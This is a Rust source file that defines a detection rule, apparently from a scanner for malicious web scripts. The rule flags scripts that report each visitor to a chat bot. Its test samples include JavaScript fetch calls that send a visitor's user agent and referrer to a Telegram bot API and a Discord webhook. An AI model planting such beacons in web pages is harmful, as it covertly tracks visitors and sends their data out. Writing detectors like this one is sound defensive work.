//! `visitor-to-bot`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "visitor-to-bot",
    description: "The script reports each visitor to a chat bot.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::VisitorToBot])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text='+encodeURIComponent(navigator.userAgent))",
            "fetch('https://discord.com/api/webhooks/0/x',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:`New visitor: ${navigator.userAgent} from ${document.referrer}`})})",
        ],
        without: &[
            "form.onsubmit=()=>fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:note.value+navigator.userAgent})})",
            "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text=started')",
        ],
    },
};
